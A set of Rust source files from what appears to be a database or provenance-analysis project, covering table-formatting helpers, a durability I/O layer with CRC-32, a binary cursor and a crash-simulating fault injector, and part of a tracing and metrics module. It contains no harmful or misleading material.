    let t = s.trim_end_matches('%').trim_end_matches('x').trim_start_matches('>').trim();
    !t.is_empty()
        && t.chars().all(|c| c.is_ascii_digit() || c == '.' || c == ',' || c == '-' || c == '/')
}

/// Formats a fractional count like the paper's `1425/1473 = 96.74%` cells.
pub fn ratio_cell(num: usize, den: usize) -> String {
    if den == 0 {
        return format!("{num}/{den}");
    }
    let mut s = String::new();
    let _ = write!(s, "{num}/{den}");
    s
}

/// Formats a percentage with two decimals, like the paper.
pub fn pct(x: f64) -> String {
    format!("{:.2}%", x * 100.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_aligned() {
        let mut t = TextTable::new(["Case", "Mean", "Std"]);
        t.row(["data_leak", "1.45", "0.43"]);
        t.row(["tc_theia_1", "3.86", "0.08"]);
        let s = t.render();
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with("Case"));
        assert!(lines[1].chars().all(|c| c == '-'));
        // Numeric cells right-aligned: both mean columns end at same offset.
        assert!(lines[2].contains("1.45"));
        assert!(lines[3].contains("3.86"));
    }

    #[test]
    fn numeric_detection() {
        assert!(is_numeric("3.14"));
        assert!(is_numeric("96.74%"));
        assert!(is_numeric("22.7x"));
        assert!(is_numeric("1425/1473"));
        assert!(is_numeric(">3600"));
        assert!(!is_numeric("data_leak"));
        assert!(!is_numeric(""));
    }

    #[test]
    fn helpers() {
        assert_eq!(ratio_cell(6, 8), "6/8");
        assert_eq!(pct(0.9674), "96.74%");
    }
}
