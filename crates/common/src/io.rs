//! The durability plane's I/O substrate: a minimal injectable file backend
//! plus the binary encoding primitives shared by the WAL and checkpoint
//! codecs.
//!
//! * [`Fs`] — the five operations durability needs (`append`, `sync`,
//!   `read`, `replace`, `remove`), implemented by [`DirFs`] (a real
//!   directory), [`MemFs`] (in-memory, for tests and benches) and
//!   [`FailpointFs`] (a deterministic fault injector that can tear any
//!   write at a chosen global byte offset, or fail a chosen operation,
//!   and then behave like a crashed process),
//! * [`crc32`] — the IEEE CRC-32 every WAL record and checkpoint carries,
//! * [`Cur`] plus the `put_*` helpers — a tiny length-checked binary
//!   cursor; every truncation or overrun surfaces as a typed
//!   [`Error::storage`], never a panic.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use crate::error::{Error, Result};

/// Hard cap on any length-prefixed string/blob read through [`Cur`] — a
/// corrupt length prefix must not turn into a giant allocation.
pub const MAX_BLOB: usize = 64 * 1024 * 1024;

// ---------------------------------------------------------------------------
// CRC-32 (IEEE 802.3), table-driven, built at compile time.
// ---------------------------------------------------------------------------

const fn crc_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 };
            k += 1;
        }
        table[i] = c;
        i += 1;
    }
    table
}

const CRC_TABLE: [u32; 256] = crc_table();

/// IEEE CRC-32 of `bytes` (the checksum in every WAL record frame and
/// checkpoint header).
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut c = 0xFFFF_FFFFu32;
    for &b in bytes {
        c = CRC_TABLE[((c ^ b as u32) & 0xFF) as usize] ^ (c >> 8);
    }
    !c
}

// ---------------------------------------------------------------------------
// Binary cursor helpers.
// ---------------------------------------------------------------------------

/// A length-checked little-endian reader over a byte slice. Every accessor
/// returns a typed [`Error::storage`] on truncation — corrupt durability
/// files decode to errors, never panics.
pub struct Cur<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> Cur<'a> {
    pub fn new(buf: &'a [u8]) -> Self {
        Cur { buf, pos: 0 }
    }

    pub fn pos(&self) -> usize {
        self.pos
    }

    pub fn remaining(&self) -> usize {
        self.buf.len() - self.pos
    }

    pub fn is_done(&self) -> bool {
        self.remaining() == 0
    }

    fn take(&mut self, n: usize, what: &str) -> Result<&'a [u8]> {
        if self.remaining() < n {
            return Err(Error::storage(format!(
                "truncated {what}: need {n} bytes, {} left at offset {}",
                self.remaining(),
                self.pos
            )));
        }
        let s = &self.buf[self.pos..self.pos + n];
        self.pos += n;
        Ok(s)
    }

    pub fn get_u8(&mut self) -> Result<u8> {
        Ok(self.take(1, "u8")?[0])
    }

    pub fn get_u16(&mut self) -> Result<u16> {
        Ok(u16::from_le_bytes(self.take(2, "u16")?.try_into().expect("sized")))
    }

    pub fn get_u32(&mut self) -> Result<u32> {
        Ok(u32::from_le_bytes(self.take(4, "u32")?.try_into().expect("sized")))
    }

    pub fn get_i32(&mut self) -> Result<i32> {
        Ok(i32::from_le_bytes(self.take(4, "i32")?.try_into().expect("sized")))
    }

    pub fn get_u64(&mut self) -> Result<u64> {
        Ok(u64::from_le_bytes(self.take(8, "u64")?.try_into().expect("sized")))
    }

    pub fn get_i64(&mut self) -> Result<i64> {
        Ok(i64::from_le_bytes(self.take(8, "i64")?.try_into().expect("sized")))
    }

    /// A `u64` that must fit a sane in-memory count (guards corrupt length
    /// prefixes before they become allocations).
    pub fn get_len(&mut self) -> Result<usize> {
        let n = self.get_u64()?;
        if n > MAX_BLOB as u64 {
            return Err(Error::storage(format!("implausible length {n} (corrupt input?)")));
        }
        Ok(n as usize)
    }

    pub fn get_bytes(&mut self, n: usize) -> Result<&'a [u8]> {
        if n > MAX_BLOB {
            return Err(Error::storage(format!("implausible blob length {n}")));
        }
        self.take(n, "blob")
    }

    /// A `u32`-length-prefixed UTF-8 string.
    pub fn get_str(&mut self) -> Result<String> {
        let n = self.get_u32()? as usize;
        if n > MAX_BLOB {
            return Err(Error::storage(format!("implausible string length {n}")));
        }
        let raw = self.take(n, "string")?;
        String::from_utf8(raw.to_vec())
            .map_err(|_| Error::storage("invalid utf-8 in durability record"))
    }
}

pub fn put_u8(buf: &mut Vec<u8>, v: u8) {
    buf.push(v);
}

pub fn put_u16(buf: &mut Vec<u8>, v: u16) {
    buf.extend_from_slice(&v.to_le_bytes());
}

pub fn put_u32(buf: &mut Vec<u8>, v: u32) {
    buf.extend_from_slice(&v.to_le_bytes());
}

pub fn put_i32(buf: &mut Vec<u8>, v: i32) {
    buf.extend_from_slice(&v.to_le_bytes());
}

pub fn put_u64(buf: &mut Vec<u8>, v: u64) {
    buf.extend_from_slice(&v.to_le_bytes());
}

pub fn put_i64(buf: &mut Vec<u8>, v: i64) {
    buf.extend_from_slice(&v.to_le_bytes());
}

pub fn put_str(buf: &mut Vec<u8>, s: &str) {
    debug_assert!(s.len() <= MAX_BLOB);
    put_u32(buf, s.len() as u32);
    buf.extend_from_slice(s.as_bytes());
}

// ---------------------------------------------------------------------------
// The injectable file backend.
// ---------------------------------------------------------------------------

/// The file operations the durability plane needs, kept deliberately tiny
/// so fault injection can wrap *every* byte that would reach disk.
///
/// Semantics the implementations guarantee:
///
/// * [`Fs::append`] appends to the named file, creating it if absent,
/// * [`Fs::sync`] is the durability point (fsync; a no-op for [`MemFs`]),
/// * [`Fs::read`] returns `None` for a missing file (not an error),
/// * [`Fs::replace`] atomically replaces the whole file content — after a
///   crash the file holds either the old bytes or the new bytes, never a
///   mix ([`DirFs`] implements it as write-to-temp + rename).
pub trait Fs: Send + Sync + std::fmt::Debug {
    fn append(&self, name: &str, bytes: &[u8]) -> Result<()>;
    fn sync(&self, name: &str) -> Result<()>;
    fn read(&self, name: &str) -> Result<Option<Vec<u8>>>;
    fn replace(&self, name: &str, bytes: &[u8]) -> Result<()>;
    fn remove(&self, name: &str) -> Result<()>;
}

/// A real directory. File names are flat (no separators).
#[derive(Debug, Clone)]
pub struct DirFs {
    root: PathBuf,
}

impl DirFs {
    /// Opens (creating if needed) `root` as a durability directory.
    pub fn new(root: impl AsRef<Path>) -> Result<Self> {
        let root = root.as_ref().to_path_buf();
        std::fs::create_dir_all(&root)
            .map_err(|e| Error::storage(format!("create dir {}: {e}", root.display())))?;
        Ok(DirFs { root })
    }

    pub fn root(&self) -> &Path {
        &self.root
    }

    fn path(&self, name: &str) -> Result<PathBuf> {
        if name.is_empty() || name.contains(['/', '\\']) {
            return Err(Error::storage(format!("invalid durability file name `{name}`")));
        }
        Ok(self.root.join(name))
    }
}

impl Fs for DirFs {
    fn append(&self, name: &str, bytes: &[u8]) -> Result<()> {
        let path = self.path(name)?;
        let mut f = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&path)
            .map_err(|e| Error::storage(format!("open {}: {e}", path.display())))?;
        f.write_all(bytes).map_err(|e| Error::storage(format!("append {name}: {e}")))
    }

    fn sync(&self, name: &str) -> Result<()> {
        let path = self.path(name)?;
        match std::fs::File::open(&path) {
            Ok(f) => f.sync_all().map_err(|e| Error::storage(format!("fsync {name}: {e}"))),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(Error::storage(format!("fsync open {name}: {e}"))),
        }
    }

    fn read(&self, name: &str) -> Result<Option<Vec<u8>>> {
        let path = self.path(name)?;
        match std::fs::read(&path) {
            Ok(bytes) => Ok(Some(bytes)),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(Error::storage(format!("read {name}: {e}"))),
        }
    }

    fn replace(&self, name: &str, bytes: &[u8]) -> Result<()> {
        let path = self.path(name)?;
        let tmp = self.root.join(format!("{name}.tmp"));
        std::fs::write(&tmp, bytes)
            .map_err(|e| Error::storage(format!("write {}: {e}", tmp.display())))?;
        if let Ok(f) = std::fs::File::open(&tmp) {
            let _ = f.sync_all();
        }
        std::fs::rename(&tmp, &path).map_err(|e| Error::storage(format!("rename into {name}: {e}")))
    }

    fn remove(&self, name: &str) -> Result<()> {
        let path = self.path(name)?;
        match std::fs::remove_file(&path) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(Error::storage(format!("remove {name}: {e}"))),
        }
    }
}

/// An in-memory [`Fs`]. Cloning shares the backing files — a recovery test
/// keeps one handle, wraps another in a [`FailpointFs`], "crashes" the
/// wrapped one and re-opens from the shared state, exactly like a process
/// restart over a real directory.
#[derive(Debug, Clone, Default)]
pub struct MemFs {
    files: Arc<Mutex<std::collections::BTreeMap<String, Vec<u8>>>>,
}

impl MemFs {
    pub fn new() -> Self {
        Self::default()
    }

    /// Direct test access: current content of `name` (empty if absent).
    pub fn snapshot(&self, name: &str) -> Vec<u8> {
        self.files.lock().expect("memfs lock").get(name).cloned().unwrap_or_default()
    }

    /// Direct test access: overwrites `name` (for corruption injection).
    pub fn store(&self, name: &str, bytes: Vec<u8>) {
        self.files.lock().expect("memfs lock").insert(name.to_string(), bytes);
    }
}

impl Fs for MemFs {
    fn append(&self, name: &str, bytes: &[u8]) -> Result<()> {
        self.files
            .lock()
            .expect("memfs lock")
            .entry(name.to_string())
            .or_default()
            .extend_from_slice(bytes);
        Ok(())
    }

    fn sync(&self, _name: &str) -> Result<()> {
        Ok(())
    }

    fn read(&self, name: &str) -> Result<Option<Vec<u8>>> {
        Ok(self.files.lock().expect("memfs lock").get(name).cloned())
    }

    fn replace(&self, name: &str, bytes: &[u8]) -> Result<()> {
        self.files.lock().expect("memfs lock").insert(name.to_string(), bytes.to_vec());
        Ok(())
    }

    fn remove(&self, name: &str) -> Result<()> {
        self.files.lock().expect("memfs lock").remove(name);
        Ok(())
    }
}

#[derive(Debug, Default)]
struct FailState {
    /// Bytes that may still be written before the simulated crash. `None`
    /// disarms the failpoint.
    budget: Option<u64>,
    /// Once tripped, every subsequent operation fails (the process is
    /// "dead"; recovery happens over the unwrapped inner backend).
    crashed: bool,
    /// Total bytes successfully handed to the inner backend.
    written: u64,
    /// Countdown of operations until a one-shot injected error (no crash).
    err_ops: Option<u64>,
}

/// A deterministic fault injector around any [`Fs`].
///
/// * [`FailpointFs::crash_after_bytes`] arms a **torn-write crash**: the
///   write that crosses the global byte budget is truncated at exactly the
///   budget boundary (an atomic [`Fs::replace`] instead keeps the old
///   content — that is what atomic means), and every operation after it
///   fails. This simulates power loss mid-record, mid-checkpoint, or right
///   after an fsync, depending on where the budget lands.
/// * [`FailpointFs::error_on_op`] injects a single transient error without
///   crashing (exercises error propagation paths).
#[derive(Debug)]
pub struct FailpointFs {
    inner: Arc<dyn Fs>,
    state: Mutex<FailState>,
}

impl FailpointFs {
    pub fn new(inner: Arc<dyn Fs>) -> Self {
        FailpointFs { inner, state: Mutex::new(FailState::default()) }
    }

    /// Arms the crash failpoint: after `budget` more bytes, writes tear and
    /// the backend goes dead.
    pub fn crash_after_bytes(&self, budget: u64) {
        let mut st = self.state.lock().expect("failpoint lock");
        st.budget = Some(budget);
    }

    /// Injects one error `n` operations from now (0 = the next operation).
    pub fn error_on_op(&self, n: u64) {
        self.state.lock().expect("failpoint lock").err_ops = Some(n);
    }

    /// Has the armed crash tripped?
    pub fn crashed(&self) -> bool {
        self.state.lock().expect("failpoint lock").crashed
    }

    /// Total bytes successfully written through this wrapper (calibrates
    /// crash offsets in tests).
    pub fn bytes_written(&self) -> u64 {
        self.state.lock().expect("failpoint lock").written
    }

    fn gate(st: &mut FailState) -> Result<()> {
        if st.crashed {
            return Err(Error::storage("failpoint: backend crashed"));
        }
        if let Some(n) = st.err_ops {
            if n == 0 {
                st.err_ops = None;
                return Err(Error::storage("failpoint: injected transient error"));
            }
            st.err_ops = Some(n - 1);
        }
        Ok(())
    }
}

impl Fs for FailpointFs {
    fn append(&self, name: &str, bytes: &[u8]) -> Result<()> {
        let mut st = self.state.lock().expect("failpoint lock");
        Self::gate(&mut st)?;
        if let Some(budget) = st.budget {
            if (bytes.len() as u64) > budget {
                // Torn write: the prefix reaches "disk", the rest is lost,
                // and the process is dead from here on.
                let keep = budget as usize;
                st.crashed = true;
                st.written += keep as u64;
                self.inner.append(name, &bytes[..keep])?;
                return Err(Error::storage("failpoint: crash mid-write (torn record)"));
            }
            st.budget = Some(budget - bytes.len() as u64);
        }
        st.written += bytes.len() as u64;
        self.inner.append(name, bytes)
    }

    fn sync(&self, name: &str) -> Result<()> {
        let mut st = self.state.lock().expect("failpoint lock");
        Self::gate(&mut st)?;
        self.inner.sync(name)
    }

    fn read(&self, name: &str) -> Result<Option<Vec<u8>>> {
        let mut st = self.state.lock().expect("failpoint lock");
        Self::gate(&mut st)?;
        self.inner.read(name)
    }

    fn replace(&self, name: &str, bytes: &[u8]) -> Result<()> {
        let mut st = self.state.lock().expect("failpoint lock");
        Self::gate(&mut st)?;
        if let Some(budget) = st.budget {
            if (bytes.len() as u64) > budget {
                // Crash mid-replace: atomic replace means the rename never
                // happened — the old content survives untouched.
                st.crashed = true;
                return Err(Error::storage("failpoint: crash mid-replace (old content kept)"));
            }
            st.budget = Some(budget - bytes.len() as u64);
        }
        st.written += bytes.len() as u64;
        self.inner.replace(name, bytes)
    }

    fn remove(&self, name: &str) -> Result<()> {
        let mut st = self.state.lock().expect("failpoint lock");
        Self::gate(&mut st)?;
        self.inner.remove(name)
    }
}

/// The durability directory tests and CI use: `RAPTOR_WAL_DIR` when set
/// (CI plumbs a workspace temp dir through it), else the system temp dir.
/// The returned path is namespaced by `label` and the process id so
/// concurrent test binaries never collide.
pub fn test_wal_dir(label: &str) -> PathBuf {
    let base =
        std::env::var_os("RAPTOR_WAL_DIR").map(PathBuf::from).unwrap_or_else(std::env::temp_dir);
    base.join(format!("raptor-{label}-{}", std::process::id()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_known_vectors() {
        // Standard IEEE test vector.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        assert_ne!(crc32(b"abc"), crc32(b"abd"));
    }

    #[test]
    fn cursor_roundtrip_and_truncation() {
        let mut buf = Vec::new();
        put_u8(&mut buf, 7);
        put_u16(&mut buf, 300);
        put_u32(&mut buf, 70_000);
        put_u64(&mut buf, u64::MAX - 1);
        put_i64(&mut buf, -42);
        put_i32(&mut buf, -7);
        put_str(&mut buf, "hello");
        let mut cur = Cur::new(&buf);
        assert_eq!(cur.get_u8().unwrap(), 7);
        assert_eq!(cur.get_u16().unwrap(), 300);
        assert_eq!(cur.get_u32().unwrap(), 70_000);
        assert_eq!(cur.get_u64().unwrap(), u64::MAX - 1);
        assert_eq!(cur.get_i64().unwrap(), -42);
        assert_eq!(cur.get_i32().unwrap(), -7);
        assert_eq!(cur.get_str().unwrap(), "hello");
        assert!(cur.is_done());
        // Every truncation point errors, never panics.
        for cut in 0..buf.len() {
            let mut c = Cur::new(&buf[..cut]);
            let mut ok = true;
            while ok {
                ok = c.get_u8().is_ok();
            }
        }
    }

    #[test]
    fn implausible_lengths_rejected() {
        let mut buf = Vec::new();
        put_u32(&mut buf, u32::MAX); // absurd string length
        assert!(Cur::new(&buf).get_str().is_err());
        let mut buf = Vec::new();
        put_u64(&mut buf, u64::MAX);
        assert!(Cur::new(&buf).get_len().is_err());
    }

    #[test]
    fn memfs_append_replace_read() {
        let fs = MemFs::new();
        assert_eq!(fs.read("wal").unwrap(), None);
        fs.append("wal", b"ab").unwrap();
        fs.append("wal", b"cd").unwrap();
        assert_eq!(fs.read("wal").unwrap().unwrap(), b"abcd");
        fs.replace("wal", b"xy").unwrap();
        assert_eq!(fs.read("wal").unwrap().unwrap(), b"xy");
        fs.remove("wal").unwrap();
        assert_eq!(fs.read("wal").unwrap(), None);
    }

    #[test]
    fn dirfs_roundtrip() {
        let dir = test_wal_dir("dirfs-unit");
        let fs = DirFs::new(&dir).unwrap();
        fs.remove("wal").unwrap();
        fs.append("wal", b"hello ").unwrap();
        fs.append("wal", b"world").unwrap();
        fs.sync("wal").unwrap();
        assert_eq!(fs.read("wal").unwrap().unwrap(), b"hello world");
        fs.replace("wal", b"fresh").unwrap();
        assert_eq!(fs.read("wal").unwrap().unwrap(), b"fresh");
        assert!(fs.append("../escape", b"x").is_err());
        fs.remove("wal").unwrap();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn failpoint_tears_write_at_budget_and_goes_dead() {
        let mem = MemFs::new();
        let fp = FailpointFs::new(Arc::new(mem.clone()));
        fp.crash_after_bytes(5);
        fp.append("wal", b"abc").unwrap();
        // This 4-byte write crosses the 5-byte budget: 2 bytes land.
        assert!(fp.append("wal", b"defg").is_err());
        assert!(fp.crashed());
        assert_eq!(mem.snapshot("wal"), b"abcde");
        // Dead from here on — every operation fails.
        assert!(fp.append("wal", b"x").is_err());
        assert!(fp.sync("wal").is_err());
        assert!(fp.read("wal").is_err());
        // ...but the unwrapped backend still serves recovery.
        assert_eq!(mem.read("wal").unwrap().unwrap(), b"abcde");
    }

    #[test]
    fn failpoint_replace_is_atomic_under_crash() {
        let mem = MemFs::new();
        mem.store("ckpt", b"old".to_vec());
        let fp = FailpointFs::new(Arc::new(mem.clone()));
        fp.crash_after_bytes(2);
        assert!(fp.replace("ckpt", b"new-content").is_err());
        // Old content survives: replace never half-applies.
        assert_eq!(mem.snapshot("ckpt"), b"old");
    }

    #[test]
    fn failpoint_one_shot_error_without_crash() {
        let mem = MemFs::new();
        let fp = FailpointFs::new(Arc::new(mem.clone()));
        fp.error_on_op(1);
        fp.append("wal", b"a").unwrap();
        assert!(fp.append("wal", b"b").is_err());
        // Transient: the backend keeps working afterwards.
        fp.append("wal", b"c").unwrap();
        assert!(!fp.crashed());
        assert_eq!(mem.snapshot("wal"), b"ac");
    }
}
