//! The observability plane: trace spans, metrics, and the slow-query log.
//!
//! Everything in this module is zero-dependency and process-global, so any
//! crate in the workspace can record into it without plumbing handles:
//!
//! * [`TraceSink`] — a lock-free ring buffer of timed, hierarchical
//!   [`Span`]s. Writers claim a slot with one `fetch_add` and publish the
//!   span through a per-slot seqlock, so recording never blocks and never
//!   allocates. Tracing is off unless the `RAPTOR_TRACE` environment
//!   variable is set (or [`TraceSink::set_enabled`] is called); the
//!   disabled path is a single relaxed atomic load.
//! * [`MetricsRegistry`] — named counters, gauges and fixed-bucket
//!   histograms with a point-in-time [`MetricsSnapshot`] exportable as
//!   JSON or Prometheus text format. Metrics are always on: they are
//!   touched once per query / epoch, never per row.
//! * [`SlowQueryLog`] — a bounded ring of queries whose wall time crossed
//!   `RAPTOR_SLOW_QUERY_MS`, each with the `EXPLAIN ANALYZE` report the
//!   engine attaches.
//!
//! Span parents come from a per-thread stack maintained by [`SpanGuard`],
//! so spans recorded on pool worker threads are roots of their own
//! subtree; span *counts* are deterministic at any thread count because
//! every span marks one logical operation, never one partition of one.

use std::cell::{RefCell, UnsafeCell};
use std::collections::BTreeMap;
use std::collections::VecDeque;
use std::sync::atomic::{fence, AtomicBool, AtomicU64, Ordering};
use std::sync::{Mutex, OnceLock};
use std::time::Instant;

// ---------------------------------------------------------------------------
// Clock
// ---------------------------------------------------------------------------

fn clock_epoch() -> Instant {
    static EPOCH: OnceLock<Instant> = OnceLock::new();
    *EPOCH.get_or_init(Instant::now)
}

/// Nanoseconds since the first observability call in this process.
pub fn now_ns() -> u64 {
    clock_epoch().elapsed().as_nanos() as u64
}

// ---------------------------------------------------------------------------
// Spans
// ---------------------------------------------------------------------------

/// Maximum number of `(key, value)` attributes a span can carry.
pub const SPAN_ATTRS: usize = 4;

/// A short, fixed-capacity span label (truncated at a char boundary).
///
/// Spans are plain-old-data so they can live in the lock-free ring; the
/// label is the only dynamic part and is capped at 23 bytes.
#[derive(Clone, Copy)]
pub struct Label {
    len: u8,
    buf: [u8; 23],
}

impl Label {
    /// The empty label.
    pub const EMPTY: Label = Label { len: 0, buf: [0; 23] };

    /// Builds a label from `s`, truncating at a UTF-8 boundary if needed.
    pub fn new(s: &str) -> Label {
        let mut end = s.len().min(23);
        while end > 0 && !s.is_char_boundary(end) {
            end -= 1;
        }
        let mut buf = [0u8; 23];
        buf[..end].copy_from_slice(&s.as_bytes()[..end]);
        Label { len: end as u8, buf }
    }

    /// The label text.
    pub fn as_str(&self) -> &str {
        std::str::from_utf8(&self.buf[..self.len as usize]).unwrap_or("")
    }
}

impl std::fmt::Debug for Label {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:?}", self.as_str())
    }
}

/// One timed operation: a node in the trace tree.
#[derive(Clone, Copy, Debug)]
pub struct Span {
    /// Process-unique span id (never 0).
    pub id: u64,
    /// Parent span id, or 0 for a root span.
    pub parent: u64,
    /// Static span name from the span taxonomy (e.g. `"engine.pattern"`).
    pub name: &'static str,
    /// Short dynamic label (e.g. the pattern's event name).
    pub label: Label,
    /// Start time, nanoseconds since process epoch.
    pub start_ns: u64,
    /// Wall time in nanoseconds.
    pub dur_ns: u64,
    /// Numeric attributes; the first `nattrs` entries are valid.
    pub attrs: [(&'static str, u64); SPAN_ATTRS],
    /// Number of valid attributes.
    pub nattrs: u8,
}

impl Span {
    /// Looks up an attribute by key.
    pub fn attr(&self, key: &str) -> Option<u64> {
        self.attrs[..self.nattrs as usize].iter().find(|(k, _)| *k == key).map(|&(_, v)| v)
    }
}

const EMPTY_SPAN: Span = Span {
    id: 0,
    parent: 0,
    name: "",
    label: Label::EMPTY,
    start_ns: 0,
    dur_ns: 0,
    attrs: [("", 0); SPAN_ATTRS],
    nattrs: 0,
};

/// Ring capacity in spans (power of two).
const RING_CAP: usize = 1 << 14;

/// One seqlocked ring slot.
///
/// `seq` encodes the slot state: `0` = never written, odd = a writer is
/// mid-copy, `2 * pos + 2` = holds the record claimed at position `pos`.
struct Slot {
    seq: AtomicU64,
    span: UnsafeCell<Span>,
}

// SAFETY: concurrent access to `span` is mediated by the `seq` seqlock —
// readers discard any copy whose surrounding sequence reads disagree, and
// the cell only ever holds plain-old-data.
unsafe impl Sync for Slot {}

/// Lock-free ring buffer of trace [`Span`]s.
pub struct TraceSink {
    enabled: AtomicBool,
    next_id: AtomicU64,
    head: AtomicU64,
    slots: Box<[Slot]>,
}

impl TraceSink {
    fn new() -> TraceSink {
        let on = std::env::var_os("RAPTOR_TRACE").is_some_and(|v| v != "0" && !v.is_empty());
        let slots = (0..RING_CAP)
            .map(|_| Slot { seq: AtomicU64::new(0), span: UnsafeCell::new(EMPTY_SPAN) })
            .collect::<Vec<_>>()
            .into_boxed_slice();
        TraceSink {
            enabled: AtomicBool::new(on),
            next_id: AtomicU64::new(1),
            head: AtomicU64::new(0),
            slots,
        }
    }

    /// Whether tracing is currently on. One relaxed load: this is the whole
    /// cost of every span site when tracing is disabled.
    #[inline]
    pub fn enabled(&self) -> bool {
        self.enabled.load(Ordering::Relaxed)
    }

    /// Turns tracing on or off (overrides the `RAPTOR_TRACE` env gate).
    pub fn set_enabled(&self, on: bool) {
        self.enabled.store(on, Ordering::Relaxed);
    }

    /// Allocates a process-unique span id.
    pub fn next_id(&self) -> u64 {
        self.next_id.fetch_add(1, Ordering::Relaxed)
    }

    /// Records a finished span. Never blocks; overwrites the oldest span
    /// once the ring wraps. No-op while disabled.
    pub fn record(&self, span: Span) {
        if !self.enabled() {
            return;
        }
        let pos = self.head.fetch_add(1, Ordering::Relaxed);
        let slot = &self.slots[(pos as usize) & (RING_CAP - 1)];
        // Seqlock write: odd marks the copy in progress, `2 * pos + 2`
        // publishes it as the record for ring position `pos`.
        slot.seq.store(2 * pos + 1, Ordering::Relaxed);
        fence(Ordering::Release);
        // SAFETY: the cell holds POD; a racing reader validates with `seq`
        // and discards torn copies, a racing writer that lapped us will
        // simply publish a newer sequence that invalidates ours.
        unsafe { std::ptr::write_volatile(slot.span.get(), span) };
        slot.seq.store(2 * pos + 2, Ordering::Release);
    }

    /// Total spans recorded since creation (or the last [`clear`]).
    ///
    /// [`clear`]: TraceSink::clear
    pub fn span_count(&self) -> u64 {
        self.head.load(Ordering::Relaxed)
    }

    /// Copies out every span still retained in the ring, oldest first.
    pub fn snapshot(&self) -> Vec<Span> {
        let head = self.head.load(Ordering::Acquire);
        let first = head.saturating_sub(RING_CAP as u64);
        let mut out = Vec::with_capacity((head - first) as usize);
        for pos in first..head {
            let slot = &self.slots[(pos as usize) & (RING_CAP - 1)];
            let want = 2 * pos + 2;
            let s1 = slot.seq.load(Ordering::Acquire);
            if s1 != want {
                continue; // overwritten or still being written
            }
            // SAFETY: POD copy validated by re-reading the sequence below.
            let span = unsafe { std::ptr::read_volatile(slot.span.get()) };
            fence(Ordering::Acquire);
            if slot.seq.load(Ordering::Relaxed) == want {
                out.push(span);
            }
        }
        out
    }

    /// Empties the ring and resets the record counter. Not safe to call
    /// concurrently with writers (intended for tests and harnesses).
    pub fn clear(&self) {
        for slot in self.slots.iter() {
            slot.seq.store(0, Ordering::Release);
        }
        self.head.store(0, Ordering::Release);
    }
}

/// The process-global trace sink.
pub fn trace() -> &'static TraceSink {
    static SINK: OnceLock<TraceSink> = OnceLock::new();
    SINK.get_or_init(TraceSink::new)
}

thread_local! {
    static SPAN_STACK: RefCell<Vec<u64>> = const { RefCell::new(Vec::new()) };
}

/// RAII guard for an in-flight span; records on drop.
///
/// While alive, the span is this thread's current parent: nested guards
/// link to it automatically. Inert (and free) when tracing is off.
pub struct SpanGuard {
    span: Span,
    start: u64,
    active: bool,
}

/// Opens a span against the global sink. The returned guard records the
/// span (with wall time) when dropped.
#[inline]
pub fn span(name: &'static str) -> SpanGuard {
    let sink = trace();
    if !sink.enabled() {
        return SpanGuard { span: EMPTY_SPAN, start: 0, active: false };
    }
    let id = sink.next_id();
    let parent = SPAN_STACK.with(|s| {
        let mut s = s.borrow_mut();
        let parent = s.last().copied().unwrap_or(0);
        s.push(id);
        parent
    });
    let start = now_ns();
    SpanGuard {
        span: Span { id, parent, name, start_ns: start, ..EMPTY_SPAN },
        start,
        active: true,
    }
}

impl SpanGuard {
    /// Sets the span's dynamic label (truncated to [`Label`] capacity).
    pub fn label(&mut self, text: &str) {
        if self.active {
            self.span.label = Label::new(text);
        }
    }

    /// Attaches a numeric attribute (silently dropped past [`SPAN_ATTRS`]).
    pub fn attr(&mut self, key: &'static str, value: u64) {
        if self.active && (self.span.nattrs as usize) < SPAN_ATTRS {
            self.span.attrs[self.span.nattrs as usize] = (key, value);
            self.span.nattrs += 1;
        }
    }

    /// This span's id (0 when tracing is off).
    pub fn id(&self) -> u64 {
        if self.active {
            self.span.id
        } else {
            0
        }
    }
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        if !self.active {
            return;
        }
        SPAN_STACK.with(|s| {
            let mut s = s.borrow_mut();
            if s.last() == Some(&self.span.id) {
                s.pop();
            }
        });
        self.span.dur_ns = now_ns().saturating_sub(self.start);
        trace().record(self.span);
    }
}

// ---------------------------------------------------------------------------
// Metrics
// ---------------------------------------------------------------------------

/// Number of histogram buckets (exponential, base 4, plus +Inf overflow).
pub const HIST_BUCKETS: usize = 16;

/// Upper bound (inclusive, in ns) of histogram bucket `i`; the last bucket
/// is the +Inf overflow.
pub fn bucket_bound_ns(i: usize) -> u64 {
    1024u64 << (2 * i as u32)
}

/// A fixed-bucket latency histogram (nanosecond observations, exponential
/// bounds from ~1µs to ~274s, plus overflow).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Hist {
    /// Per-bucket observation counts; `counts[HIST_BUCKETS - 1]` is +Inf.
    pub counts: [u64; HIST_BUCKETS],
    /// Sum of all observations, ns.
    pub sum_ns: u64,
    /// Total observation count.
    pub count: u64,
}

impl Hist {
    fn observe(&mut self, ns: u64) {
        let idx =
            (0..HIST_BUCKETS - 1).find(|&i| ns <= bucket_bound_ns(i)).unwrap_or(HIST_BUCKETS - 1);
        self.counts[idx] += 1;
        self.sum_ns += ns;
        self.count += 1;
    }
}

/// A metric's current value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum MetricValue {
    /// Monotonically increasing count.
    Counter(u64),
    /// Point-in-time level.
    Gauge(i64),
    /// Latency distribution.
